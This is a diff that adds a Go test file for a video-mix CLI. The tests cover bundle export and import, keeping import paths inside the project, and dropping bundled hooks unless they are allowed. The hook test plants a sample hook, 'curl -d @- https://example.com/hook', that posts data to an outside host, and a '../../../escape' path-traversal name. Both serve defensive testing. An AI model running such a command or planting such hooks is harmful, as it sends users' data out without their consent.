@@ -0,0 +1,195 @@
+package cli
+
+import (
+	"bytes"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"powerhour/internal/cache"
+	"powerhour/internal/config"
+	"powerhour/internal/paths"
+	"powerhour/internal/render/state"
+)
+
+func TestExportBundleImportRoundtrip(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	srcDir, srcLib := t.TempDir(), t.TempDir()
+	outputJSON = false
+	exportBundleSources, exportBundleSegments = true, true
+	t.Cleanup(func() {
+		projectDir = ""
+		exportBundle = ""
+		exportBundleSources, exportBundleSegments = false, false
+		importBundleForce = false
+	})
+
+	writeTestProjectFiles(t, srcDir)
+	songs := "- title: Song\n  artist: Band\n  start_time: \"0:10\"\n  duration: \"60\"\n  link: https://youtu.be/abc\n"
+	if err := os.WriteFile(filepath.Join(srcDir, "songs.yaml"), []byte(songs), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	cached := filepath.Join(srcLib, "sources", "abc.webm")
+	segment := filepath.Join(srcDir, "segments", "songs", "001_song.mp4")
+	for _, p := range []string{cached, segment} {
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte("media"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	idx := &cache.Index{}
+	idx.SetEntry(cache.Entry{Identifier: "youtube:abc", SourceType: cache.SourceTypeURL, CachedPath: cached, Source: "https://youtu.be/abc"})
+	idx.SetLink("https://youtu.be/abc", "youtube:abc")
+	if err := cache.SaveToPath(filepath.Join(srcLib, "index.json"), idx); err != nil {
+		t.Fatal(err)
+	}
+	rs := &state.RenderState{Segments: map[string]state.SegmentState{segment: {InputHash: "sha256:x", SourcePath: cached}}}
+	if err := rs.Save(filepath.Join(srcDir, ".powerhour", "render-state.json")); err != nil {
+		t.Fatal(err)
+	}
+
+	bundle := filepath.Join(t.TempDir(), "party.phz")
+	t.Setenv("POWERHOUR_LIBRARY", srcLib)
+	projectDir = srcDir
+	export := newExportCmd()
+	var out bytes.Buffer
+	export.SetOut(&out)
+	export.SetArgs([]string{"--bundle", bundle, "--include-sources", "--include-segments"})
+	if err := export.Execute(); err != nil {
+		t.Fatalf("export: %v\n%s", err, out.String())
+	}
+	if !strings.Contains(out.String(), "1 sources, 1 segments") {
+		t.Errorf("export output = %q", out.String())
+	}
+
+	dstDir, dstLib := t.TempDir(), t.TempDir()
+	t.Setenv("POWERHOUR_LIBRARY", dstLib)
+	projectDir = dstDir
+	runImport := func() error {
+		cmd := newImportCmd()
+		out.Reset()
+		cmd.SetOut(&out)
+		cmd.SetArgs([]string{bundle})
+		return cmd.Execute()
+	}
+	if err := runImport(); err != nil {
+		t.Fatalf("import: %v\n%s", err, out.String())
+	}
+
+	for _, p := range []string{"powerhour.yaml", "songs.yaml", "interstitials.yaml", "segments/songs/001_song.mp4"} {
+		if _, err := os.Stat(filepath.Join(dstDir, p)); err != nil {
+			t.Errorf("missing restored %s: %v", p, err)
+		}
+	}
+	restoredIdx, err := cache.LoadFromPath(filepath.Join(dstLib, "index.json"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	entry, ok := restoredIdx.GetByIdentifier("youtube:abc")
+	if want := filepath.Join(dstDir, "cache", "abc.webm"); !ok || entry.CachedPath != want {
+		t.Errorf("restored entry path = %q, want %q", entry.CachedPath, want)
+	}
+	if _, err := os.Stat(entry.CachedPath); err != nil {
+		t.Errorf("restored source missing: %v", err)
+	}
+	restoredState, _ := state.Load(filepath.Join(dstDir, ".powerhour", "render-state.json"))
+	if seg, ok := restoredState.Segments[filepath.Join(dstDir, "segments", "songs", "001_song.mp4")]; !ok || seg.SourcePath != entry.CachedPath {
+		t.Errorf("render state not re-resolved: %+v", restoredState.Segments)
+	}
+
+	if err := runImport(); err == nil || !strings.Contains(err.Error(), "--force") {
+		t.Errorf("second import should refuse to overwrite, got %v", err)
+	}
+}
+
+func TestImportAnchorsStayInsideProject(t *testing.T) {
+	root := t.TempDir()
+	trusted := paths.ProjectPaths{Root: root, CacheDir: filepath.Join(root, "cache"), SegmentsDir: filepath.Join(root, "segments")}
+	outside := filepath.Join(t.TempDir(), "elsewhere")
+
+	cfg := config.Config{Timelines: map[string]config.TimelineConfig{
+		"party":           {},
+		"../../../escape": {},
+	}}
+	configured := trusted
+	configured.SegmentsDir = outside
+	configured.CacheDir = outside
+
+	anchors := importAnchors(trusted, configured, cfg)
+	names := map[string]string{}
+	for _, a := range anchors {
+		names[a.Name] = a.Dir
+		if a.Dir != root && !insideDir(root, a.Dir) {
+			t.Errorf("anchor %s = %s, outside the project", a.Name, a.Dir)
+		}
+	}
+	if names["$cache"] != trusted.CacheDir || names["$segments"] != trusted.SegmentsDir {
+		t.Errorf("anchors = %v, want the project's own cache and segments dirs", names)
+	}
+	if _, ok := names["$segments-party"]; !ok {
+		t.Errorf("timeline inside the project dropped: %v", names)
+	}
+	if _, ok := names["$segments-../../../escape"]; ok {
+		t.Errorf("timeline escaping the project kept: %v", names)
+	}
+}
+
+func TestImportDropsBundledHooks(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	t.Setenv("POWERHOUR_LIBRARY", t.TempDir())
+	outputJSON = false
+	t.Cleanup(func() {
+		projectDir = ""
+		exportBundle = ""
+		importBundleAllowHooks = false
+	})
+
+	srcDir := t.TempDir()
+	writeTestProjectFiles(t, srcDir)
+	cfgPath := filepath.Join(srcDir, "powerhour.yaml")
+	data, err := os.ReadFile(cfgPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	data = append(data, "\nhooks:\n  post_concat:\n    - curl -d @- https://example.com/hook\n"...)
+	if err := os.WriteFile(cfgPath, data, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	bundle := filepath.Join(t.TempDir(), "party.phz")
+	projectDir = srcDir
+	export := newExportCmd()
+	export.SetOut(&bytes.Buffer{})
+	export.SetArgs([]string{"--bundle", bundle})
+	if err := export.Execute(); err != nil {
+		t.Fatalf("export: %v", err)
+	}
+
+	for _, allow := range []bool{false, true} {
+		dstDir := t.TempDir()
+		projectDir = dstDir
+		cmd := newImportCmd()
+		var out bytes.Buffer
+		cmd.SetOut(&out)
+		args := []string{bundle}
+		if allow {
+			args = append(args, "--allow-hooks")
+		}
+		cmd.SetArgs(args)
+		if err := cmd.Execute(); err != nil {
+			t.Fatalf("import: %v\n%s", err, out.String())
+		}
+		cfg, err := config.Load(filepath.Join(dstDir, "powerhour.yaml"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := len(cfg.Hooks.PostConcat); (got == 1) != allow {
+			t.Errorf("allow-hooks=%v: restored post_concat = %q", allow, cfg.Hooks.PostConcat)
+		}
+		if dropped := strings.Contains(out.String(), "post_concat: curl"); dropped == allow {
+			t.Errorf("allow-hooks=%v: output = %q", allow, out.String())
+		}
+	}
+}